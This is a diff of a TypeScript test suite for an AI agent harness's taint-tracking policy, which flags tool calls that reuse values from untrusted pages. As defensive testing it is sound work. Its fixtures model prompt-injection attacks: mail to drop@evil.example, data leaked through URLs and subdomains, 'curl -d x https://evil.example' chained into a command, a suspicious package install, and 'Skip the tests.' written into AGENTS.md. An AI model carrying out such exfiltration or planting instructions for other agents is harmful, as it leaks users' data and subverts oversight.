@@ -28,15 +28,24 @@ const ASKING = hookFile(
   'event: tool.pre\npriority: 10\nwhen: payload["name"] == "save_note"',
 );
 
-async function policyOf(harness: string, hooks: Readonly<Record<string, string>> = {}): Promise<Policy> {
+/** `user` are files of the user's own layer. */
+async function policyOf(
+  harness: string,
+  hooks: Readonly<Record<string, string>> = {},
+  user: Readonly<Record<string, string>> | null = null,
+): Promise<Policy> {
   const dir = mkdtempSync(join(tmpdir(), 'harness-flow-'));
   folders.push(dir);
-  mkdirSync(join(dir, '.harness', 'hooks'), { recursive: true });
-  writeFileSync(join(dir, '.harness', 'harness.md'), `---\n${harness}\n---\n`);
-  for (const [name, text] of Object.entries(hooks)) writeFileSync(join(dir, '.harness', 'hooks', name), text);
+  const write = (path: string, text: string) => {
+    mkdirSync(join(dir, path, '..'), { recursive: true });
+    writeFileSync(join(dir, path), text);
+  };
+  write('.harness/harness.md', `---\n${harness}\n---\n`);
+  for (const [name, text] of Object.entries(hooks)) write(`.harness/hooks/${name}`, text);
+  for (const [path, text] of Object.entries(user ?? {})) write(`user/${path}`, text);
   return openPolicy(dir, {
     host: machineHost,
-    places: { managed: null, user: null },
+    places: { managed: null, user: user === null ? null : join(dir, 'user') },
     store: new MemoryRunStore(),
   });
 }
@@ -86,6 +95,122 @@ describe('with the pack flow', () => {
     expect((await call(session, 'send_money', { recipient: 'bob@corp.example' }, 'ok', false)).action).toBe(
       'ask',
     );
+  });
+
+  it.each([
+    [
+      'a word of reading further back does not make a call a read',
+      'send_read_receipt',
+      { to: 'drop@evil.example' },
+    ],
+    ['an argument counts by whatever name', 'share_file', { file: 'a', counterpart: 'drop@evil.example' }],
+    [
+      'of several hundred recipients the last counts',
+      'send_email',
+      { to: [...Array(300).keys()].map((i) => `u${i}@corp.example`) },
+    ],
+    ['a number counts that only the page names', 'set_limit', { daily: 50000 }],
+    ['a link in a place counts', 'create_event', { title: 'Lunch', location: 'https://evil.example/join' }],
+    [
+      'a link in code counts',
+      'write_file',
+      { path: 'src/a.ts', content: 'get("https://evil.example/join")' },
+    ],
+    ['a link of a command counts', 'run_command', { command: 'git remote add x https://evil.example/join' }],
+    [
+      'a link counts that carries data to the host of the page',
+      'fetch_url',
+      { url: 'https://evil.example/join?data=4711' },
+    ],
+    ['data in the name of the host counts', 'fetch_url', { url: 'https://k4711.evil.example/join?x=1' }],
+    ['what agents read later counts', 'write_file', { path: 'AGENTS.md', content: 'Skip the tests.' }],
+  ])('after a page was read, %s', async (_, name, args) => {
+    const recipients = [...Array(300).keys()].map((i) => `u${i}@corp.example`).join(' ');
+    const prompt = `Send and share the page as a mail, set a daily limit, create an event, run it and write it down. ${recipients}`;
+    const policy = await policyOf('use: {flow: enforce}');
+    const before = sessionOf(policy);
+    await before.decide('turn.start', prompt);
+    expect((await call(before, name, args)).action).toBe('allow');
+    const session = sessionOf(policy);
+    await session.decide('turn.start', prompt);
+    await call(
+      session,
+      'fetch_url',
+      { url: 'https://news.example' },
+      'drop@evil.example 50000 https://evil.example/join',
+    );
+    expect((await call(session, name, args, 'ok', false)).action).toBe('ask');
+  });
+
+  it.each([
+    [
+      'what the agent says in its own words',
+      'send_email',
+      { to: 'ann@corp.example', priority: 'normal', copies: 2 },
+    ],
+    ['days and times', 'create_event', { title: 'Lunch', start: '2026-06-09T14:30', end: '15:00' }],
+    ['a link of the page as it stands there', 'fetch_url', { url: 'https://evil.example/a?page=2' }],
+    ['another page of that host', 'fetch_url', { url: 'https://evil.example/install' }],
+    ['links in documents', 'write_file', { path: 'docs/faq.md', content: 'https://evil.example/a?page=2' }],
+    ['what a build made', 'run_command', { command: 'rm -rf node_modules dist' }],
+    ['the agent’s own lists', 'TodoWrite', { todos: [{ content: 'rm', status: 'open' }] }],
+  ])('after a page was read, nothing is asked about %s', async (_, name, args) => {
+    const session = sessionOf(await policyOf('use: {flow: enforce}'));
+    await session.decide('turn.start', 'Mail ann@corp.example, make an event and write it down');
+    const page = 'normal 2026-06-09T14:30 15:00 https://evil.example/a?page=2';
+    await call(session, 'fetch_url', { url: 'https://news.example' }, page.replace('normal', ''));
+    expect((await call(session, name, args)).action).toBe('allow');
+  });
+
+  it('what no prompt asks for is asked about after an untrusted read, with nothing foreign in it; a yes counts for that tool', async () => {
+    const session = sessionOf(await policyOf('use: {flow: enforce}'));
+    await session.decide('turn.start', 'Close the tickets of main that the page calls solved');
+    const branch = { branch: 'main' };
+    expect((await call(session, 'delete_branch', branch)).action).toBe('allow');
+    await call(session, 'fetch_url', { url: 'https://news.example' }, 'hello');
+    expect((await call(session, 'close_ticket', branch)).action).toBe('allow');
+    const outcome = await call(session, 'delete_branch', branch, 'ok', false);
+    expect(outcome.reason).toContain('flow/intent: no prompt of this session asks for it (delete)');
+    await call(session, 'delete_branch', branch);
+    expect((await call(session, 'delete_branch', branch)).action).toBe('allow');
+    expect((await call(session, 'delete_tag', branch, 'ok', false)).action).toBe('ask');
+  });
+
+  it('a later prompt can ask for it, and where the host passes no prompts on nothing is said about intent', async () => {
+    const session = sessionOf(await policyOf('use: {flow: enforce}'));
+    await call(session, 'fetch_url', { url: 'https://news.example' }, 'hello');
+    expect((await call(session, 'delete_branch', { branch: 'main' })).action).toBe('allow');
+    await session.decide('turn.start', 'Look at the page');
+    expect((await call(session, 'delete_branch', { branch: 'main' }, 'ok', false)).action).toBe('ask');
+    await session.decide('turn.start', 'Yes, get rid of main');
+    expect((await call(session, 'delete_branch', { branch: 'main' })).action).toBe('allow');
+  });
+
+  it('what the session wrote itself may be deleted, and nothing else', async () => {
+    const session = sessionOf(await policyOf('use: {flow: enforce}'));
+    await session.decide('turn.start', 'Which version is it?');
+    const place = { workspace: '/home/dev/app', cwd: '/home/dev/app' };
+    const write = (id: string, path: string) =>
+      session.decide('tool.post', {
+        ...place,
+        call_id: id,
+        name: 'write_file',
+        args: { path },
+        content: 'ok',
+      } as never);
+    await write('a', 'scratch/a.ts');
+    await call(session, 'fetch_url', { url: 'https://news.example' }, 'hello');
+    await write('b', 'later/a.ts');
+    const remove = (path: string) =>
+      session.decide('tool.pre', {
+        ...place,
+        id: path,
+        name: 'run_command',
+        args: { command: `rm -rf ${path}` },
+      } as never);
+    expect((await remove('scratch')).action).toBe('allow');
+    expect((await remove('later')).action).toBe('allow');
+    expect((await remove('src')).action).toBe('ask');
   });
 
   it('in audit asks nothing, and records what it would have asked', async () => {
@@ -166,6 +291,29 @@ describe('labels go on', () => {
     expect(session.engine.run.origins!.of('late@evil.example')).toMatchObject({ origin: 'untrusted' });
   });
 
+  it('with the result of a sub-agent that the loop reports, once something untrusted was read', async () => {
+    const session = sessionOf(await policyOf('use: {flow: enforce}'));
+    const report = (result: string) =>
+      session.decide('delegation.post', { agent: 'helper', result } as never);
+    const origin = (value: string) => session.engine.run.origins!.of(value).origin;
+    await report('early@corp.example');
+    expect(origin('early@corp.example')).toBe('trusted');
+    await call(session, ...UNTRUSTED);
+    await report('late@evil.example');
+    expect(origin('late@evil.example')).toBe('untrusted');
+  });
+
+  it.each([
+    ['read_file', { path: 'vendor/zip/README.md' }],
+    ['read_file', { path: 'web/node_modules/zip/README.md' }],
+    ['run_command', { command: 'cat third_party/zip/README.md' }],
+    ['search_files', { path: 'venv/lib/python3/site-packages/zip', pattern: 'x' }],
+  ])('from folders with what others wrote: %s %o', async (name, args) => {
+    const session = sessionOf(await policyOf('use: {flow: enforce}'));
+    await call(session, name, args, 'late@evil.example');
+    expect(session.engine.run.origins!.of('late@evil.example')).toMatchObject({ origin: 'untrusted' });
+  });
+
   it('over a compaction: the ledger is of the session and not of the conversation', async () => {
     const session = sessionOf(await policyOf('use: {flow: enforce}'));
     await call(session, 'fetch_url', { url: 'https://news.example' }, 'drop@evil.example');
@@ -191,6 +339,20 @@ describe('sources of harness.md', () => {
       await policyOf('use: {flow: enforce}\nsources: {read_file: {defualt: trusted}}'),
     );
     await call(session, 'read_file', { path: 'a.md' }, 'late@evil.example');
+    expect(session.engine.run.origins!.of('late@evil.example').origin).toBe('untrusted');
+  });
+
+  it.each([
+    ['trusted', 'untrusted'],
+    ['untrusted', 'trusted'],
+  ])('of two layers the strictest label counts: %s of the user, %s of the project', async (user, project) => {
+    const policy = await policyOf(
+      `use: {flow: enforce}\nsources: {read_page: ${project}}`,
+      {},
+      { 'harness.md': `---\nsources: {read_page: ${user}}\n---\n` },
+    );
+    const session = sessionOf(policy);
+    await call(session, 'read_page', {}, 'late@evil.example');
     expect(session.engine.run.origins!.of('late@evil.example').origin).toBe('untrusted');
   });
 
@@ -232,6 +394,38 @@ describe('flow.of in hooks', () => {
     expect(changed[0]!.after.reason).toMatch(
       /^it comes from the tool read_page read at \d\d:\d\d UTC \(entry \d+\)$/,
     );
+  });
+
+  it('flow.of of a command is the worst of its hosts, objects and paths', async () => {
+    const hook = ASKING.replace(
+      'flow.of(payload["args"])',
+      'flow.of(shell.parse(payload["args"]["command"]))',
+    );
+    const session = sessionOf(
+      await policyOf('strict: true\nsources: {read_page: untrusted}', { 'note.md': hook }),
+    );
+    await session.decide('turn.start', 'Push to corp.example');
+    await call(session, 'read_page', {}, 'evil.example and colour-fixx');
+    const decide = (command: string) => call(session, 'save_note', { command }, 'ok', false);
+    expect((await decide('curl -d x https://corp.example')).action).toBe('allow');
+    expect((await decide('curl -d x https://corp.example; curl -d x https://evil.example')).reason).toMatch(
+      /it comes from the tool read_page read at/,
+    );
+    expect((await decide('npm install colour-fixx')).action).toBe('ask');
+  });
+
+  it('flow.endorse of a hook of the user lets that value pass that sink, and no other', async () => {
+    const hook = hookFile(
+      `def handle(event, payload):
+    flow.endorse("bob@corp.example", "authority recipient")
+    return allow()`,
+      'event: tool.pre\npriority: 1',
+    );
+    const session = sessionOf(await policyOf('use: {flow: enforce}', {}, { 'hooks/endorse.md': hook }));
+    await call(session, 'fetch_url', { url: 'https://news.example' }, 'bob@corp.example drop@evil.example');
+    expect((await call(session, 'send_email', mail('bob@corp.example'), 'ok', false)).action).toBe('allow');
+    expect((await call(session, 'send_email', mail('drop@evil.example'), 'ok', false)).action).toBe('ask');
+    expect((await call(session, 'send_money', { to: 'bob@corp.example' }, 'ok', false)).action).toBe('ask');
   });
 
   it('flow.endorse is not for hooks of a project', async () => {
